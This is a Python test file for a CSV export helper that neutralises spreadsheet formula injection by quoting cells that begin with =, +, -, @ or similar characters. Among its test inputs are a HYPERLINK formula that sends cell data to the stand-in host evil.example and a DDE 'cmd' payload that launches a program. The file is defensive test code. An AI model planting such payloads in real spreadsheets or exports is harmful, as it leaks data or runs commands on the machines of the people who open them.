"""CSV cells that a spreadsheet would run as formulas are written as text."""

import csv
import io
from decimal import Decimal

import pytest

from config.spreadsheets import csv_writer, safe_cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?d="&A2,"x")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\uff1d1+1",
    ],
)
def test_text_that_starts_a_formula_gets_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Leinenservietten", "50–250 EUR", "", "a=b", " =1", "'=1"])
def test_other_text_is_left_alone(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [Decimal("-12.50"), -3, -0.5, None])
def test_numbers_stay_numbers_even_below_zero(value):
    assert safe_cell(value) is value


def test_the_writer_neutralises_every_cell_of_every_row():
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["Product", "Value"])
    writer.writerows([["=1+1", Decimal("-12.50")], ["@x", 3]])

    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["Product", "Value"],
        ["'=1+1", "-12.50"],
        ["'@x", "3"],
    ]
